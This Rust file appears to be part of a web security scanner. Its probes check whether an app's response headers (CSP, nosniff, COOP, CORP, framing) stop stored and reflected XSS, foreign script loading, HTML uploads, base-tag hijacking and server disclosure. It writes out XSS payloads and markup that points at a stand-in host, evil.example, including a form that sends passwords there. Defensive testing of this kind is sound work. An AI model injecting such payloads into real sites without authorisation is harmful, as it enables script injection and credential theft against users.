//! Attacks that a browser can stop if the answer's headers ask it to. The markup really is in the page, read back unescaped;
//! whether it would run is judged by the browser model.

use super::{front_page, own_form};
use crate::app::fill;
use crate::browser::{self, Csp, From, How, own_addresses};
use crate::context::{Context, described};
use crate::cookies::Jar;
use crate::encode;
use crate::http::{Request, Response};
use crate::probe::{Effect, Failed, Probe, Twin, Verdict};

pub(super) const PROBES: &[Probe] = &[
    Probe {
        id: "headers/inline-script",
        title: "store a script in a page",
        effect: Effect::Active,
        cwe: 79,
        asvs: "V3.4.3",
        attack: inline_script,
        twin: own_parts,
    },
    Probe {
        id: "headers/event-handler",
        title: "have a script reflected in an attribute",
        effect: Effect::Active,
        cwe: 79,
        asvs: "V3.4.3",
        attack: event_handler,
        twin: own_parts,
    },
    Probe {
        id: "headers/foreign-script",
        title: "store a script that loads from elsewhere",
        effect: Effect::Active,
        cwe: 79,
        asvs: "V3.4.3",
        attack: foreign_script,
        twin: own_parts,
    },
    Probe {
        id: "headers/uploaded-page",
        title: "upload a page with a script",
        effect: Effect::Active,
        cwe: 434,
        asvs: "V3.2.1",
        attack: uploaded_page,
        twin: uploaded_picture,
    },
    Probe {
        id: "headers/foreign-form",
        title: "store a form that sends passwords elsewhere",
        effect: Effect::Active,
        cwe: 79,
        asvs: "V3.4.3",
        attack: foreign_form,
        twin: own_form,
    },
    Probe {
        id: "headers/foreign-base",
        title: "turn the page's own addresses elsewhere",
        effect: Effect::Active,
        cwe: 79,
        asvs: "V3.4.3",
        attack: foreign_base,
        twin: own_parts,
    },
    Probe {
        id: "headers/framing",
        title: "put the page into a foreign frame",
        effect: Effect::Passive,
        cwe: 1021,
        asvs: "V3.4.6",
        attack: framing,
        twin: front_page,
    },
    Probe {
        id: "headers/sniffing",
        title: "have a file taken for another type than it has",
        effect: Effect::Passive,
        cwe: 430,
        asvs: "V3.4.4",
        attack: sniffing,
        twin: front_page,
    },
    Probe {
        id: "headers/opener",
        title: "keep a hand on a window opened by a foreign page",
        effect: Effect::Passive,
        cwe: 1022,
        asvs: "V3.4.8",
        attack: opener,
        twin: front_page,
    },
    Probe {
        id: "headers/embedding",
        title: "embed private answers in a foreign page",
        effect: Effect::Passive,
        cwe: 346,
        asvs: "V3.5.8",
        attack: embedding,
        twin: front_page,
    },
    Probe {
        id: "headers/software",
        title: "learn which software to look up holes for",
        effect: Effect::Passive,
        cwe: 200,
        asvs: "V13.4.6",
        attack: software,
        twin: front_page,
    },
];

/// Stores markup and reads the page; a verdict when it did not come through as markup.
pub(super) fn stored(context: &mut Context<'_>, markup: &str) -> Result<Result<Response, Verdict>, Failed> {
    let jar = context.victim_session()?;
    let answer = context.write(markup, &jar)?;
    let page = context.read(&jar)?;
    let start = markup.split_ascii_whitespace().next().unwrap_or_default();
    let mark = markup.split(|c: char| !c.is_ascii_alphanumeric()).find(|word| word.starts_with("gmb")).unwrap_or_default();
    let live = page.text().find(mark).is_some_and(|at| {
        page.text().get(..at).is_some_and(|before| before.rfind(start.get(..3).unwrap_or("<")) > before.rfind("&lt;"))
    });
    Ok(if live {
        Ok(page)
    } else {
        Err(Verdict::refused(if page.status >= 400 { &page } else { &answer }, "the markup is not in the page"))
    })
}

fn judge(page: &Response, runs: bool, works: String, blocked: &str) -> Verdict {
    if runs {
        Verdict::succeeded(works)
    } else {
        Verdict::Stopped { evidence: format!("it is in the page, but {blocked}"), status: Some(page.status), reference: None }
    }
}

fn inline_script(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let mark = encode::mark();
    let page = match stored(context, &format!("<script>{mark}()</script>"))? {
        Ok(page) => page,
        Err(verdict) => return Ok(verdict),
    };
    let nonce = browser::attribute_near(&page.text(), "script", &mark, "nonce");
    let runs = Csp::of(&page).runs_inline_script(nonce.as_deref());
    Ok(judge(
        &page,
        runs,
        format!("<script>{mark}()</script> is in the page and runs"),
        "the page's Content-Security-Policy keeps it from running",
    ))
}

fn event_handler(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let markup = format!("<img src=x onerror={}()>", encode::mark());
    let page = context.visit(&context.search_path(&markup)?, &Jar::default())?;
    if !page.contains(&markup) {
        return Ok(Verdict::refused(&page, "the markup is not in the page"));
    }
    Ok(judge(
        &page,
        Csp::of(&page).runs_handlers(),
        format!("{markup} is in the page and runs"),
        "the page's Content-Security-Policy keeps it from running",
    ))
}

fn foreign_script(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let url = format!("https://evil.example/{}.js", encode::mark());
    let page = match stored(context, &format!("<script src=\"{url}\"></script>"))? {
        Ok(page) => page,
        Err(verdict) => return Ok(verdict),
    };
    let runs = Csp::of(&page).runs_script_from(&url, &context.origin());
    Ok(judge(&page, runs, format!("{url} is loaded by the page"), "the page's Content-Security-Policy keeps it from loading"))
}

/// Uploads a file as the victim and fetches it as a visitor would open a link to it.
fn uploaded(context: &mut Context<'_>, file: &str, media_type: &str, content: &[u8]) -> Result<Response, Failed> {
    let upload = described(&context.app.upload, "upload")?;
    let jar = context.victim_session()?;
    let request = Request::upload(&upload.path, &upload.field, file, media_type, content);
    context.browse(request, &jar, &From::Own, How::Navigate)?;
    context.visit(&fill(&upload.read, "file", file), &jar)
}

fn uploaded_page(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let mark = encode::mark();
    let content = format!("<!doctype html><script>{mark}()</script>");
    let page = uploaded(context, &format!("{mark}.html"), "text/html", content.as_bytes())?;
    if !page.contains(&content) {
        return Ok(Verdict::refused(&page, "the page did not come back"));
    }
    let html = page.header("content-type").is_some_and(|kind| kind.starts_with("text/html"));
    let shown = html && !page.header("content-disposition").is_some_and(|how| how.starts_with("attachment"));
    let runs = shown && Csp::of(&page).runs_inline_script(None);
    Ok(judge(
        &page,
        runs,
        "the uploaded page is shown under the app's own origin and its script runs".into(),
        "its script does not run there",
    ))
}

pub(super) fn uploaded_picture(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let (mark, picture) = (encode::mark(), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe--'\";<");
    let answer = uploaded(context, &format!("{mark}.png"), "image/png", picture)?;
    Ok(Twin::of(answer.body == picture, &answer, "an uploaded picture"))
}

fn foreign_form(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let url = format!("https://evil.example/{}", encode::mark());
    let page = match stored(context, &format!("<form action=\"{url}\"><input name=password></form>"))? {
        Ok(page) => page,
        Err(verdict) => return Ok(verdict),
    };
    let works = Csp::of(&page).sends_form_to(&url, &context.origin());
    Ok(judge(&page, works, format!("a form in the page sends passwords to {url}"), "form-action keeps it from sending"))
}

fn foreign_base(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let url = format!("https://evil.example/{}/", encode::mark());
    let page = match stored(context, &format!("<base href=\"{url}\">"))? {
        Ok(page) => page,
        Err(verdict) => return Ok(verdict),
    };
    let works = Csp::of(&page).accepts_base(&url, &context.origin());
    Ok(judge(&page, works, format!("relative addresses of the page now lead to {url}"), "base-uri keeps it from counting"))
}

fn framing(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let page = context.front()?;
    Ok(if browser::may_frame(&page, "https://evil.example") {
        Verdict::succeeded("a foreign page may show this one in a frame and have its buttons clicked")
    } else {
        Verdict::stopped("a browser shows the page in no foreign frame")
    })
}

fn sniffing(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let page = context.front()?;
    Ok(if page.header("x-content-type-options").is_some_and(|value| value.eq_ignore_ascii_case("nosniff")) {
        Verdict::stopped("a browser takes every file for what its Content-Type says (nosniff)")
    } else {
        Verdict::succeeded("without nosniff a browser runs a text file as a script when a page asks it to")
    })
}

fn opener(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let page = context.front()?;
    let policy = page.header("cross-origin-opener-policy").unwrap_or_default();
    Ok(if policy.starts_with("same-origin") || policy.starts_with("noopener-allow-popups") {
        Verdict::stopped(format!("a browser cuts the window off from who opened it ({policy})"))
    } else {
        Verdict::succeeded("a foreign page that opened this one can count its frames and send it elsewhere")
    })
}

fn embedding(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let path = context.app.api.as_ref().map_or("/", |api| api.public.as_str()).to_owned();
    let answer = context.browse(Request::get(&path), &Jar::default(), &From::foreign(), How::Embed)?;
    Ok(if (200..300).contains(&answer.status) && !answer.body.is_empty() && browser::may_embed(&answer) {
        Verdict::succeeded(format!("{} bytes of {path} come into a foreign page's process", answer.body.len()))
    } else {
        Verdict::refused(&answer, "a browser keeps the answer out of the foreign page")
    })
}

fn software(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let page = context.front()?;
    let told: Vec<String> = ["server", "x-powered-by", "x-aspnet-version", "via"]
        .iter()
        .filter_map(|name| page.header(name).map(|value| format!("{name}: {value}")))
        .collect();
    Ok(if told.is_empty() { Verdict::stopped("the answer names no software") } else { Verdict::succeeded(told.join(", ")) })
}

/// The page's own stylesheet and script files load under its own policy.
fn own_parts(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let page = context.front()?;
    let (csp, own) = (Csp::of(&page), context.origin());
    let text = page.text();
    // What earlier attacks wrote into the page is no part of it.
    let parts = |tag, attribute, which| {
        let all = own_addresses(&text, tag, attribute, &own, which);
        all.into_iter().filter(|url| !url.contains(encode::MARK)).collect::<Vec<_>>()
    };
    let styles = parts("link", "href", |element| element.contains("stylesheet"));
    let scripts = parts("script", "src", |_| true);
    let loads =
        styles.iter().all(|url| csp.applies_style_from(url, &own)) && scripts.iter().all(|url| csp.runs_script_from(url, &own));
    Ok(Twin::of(
        loads && (200..300).contains(&page.status),
        &page,
        "the page's own style and script files under its Content-Security-Policy",
    ))
}
